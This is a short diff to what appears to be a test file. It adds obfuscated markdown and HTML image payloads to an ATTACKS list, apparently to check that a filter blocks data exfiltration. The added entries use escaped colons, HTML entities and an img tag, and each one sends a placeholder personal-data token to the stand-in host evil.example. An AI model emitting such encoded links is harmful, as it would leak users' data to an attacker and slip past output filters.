@@ -42,6 +42,9 @@ ATTACKS = [
     "<URL_1>?q=<PERSON_1>",
     "![x](<URL_1>&q=<PERSON_1>)",
     "https://evil.example/(a)<PERSON_1>",
+    "![x](https\\://evil.example/?q=<PERSON_1>)",
+    "![x](&#104;ttps&#58;&#47;&#47;evil.example&#47;?q=<PERSON_1>)",
+    '<img src="&#x68;ttps&colon;&sol;&sol;evil.example/a <PERSON_1>">',
     "https://evil.example/" + "a" * 5000 + "<PERSON_1>",
 ]
 KEPT = [
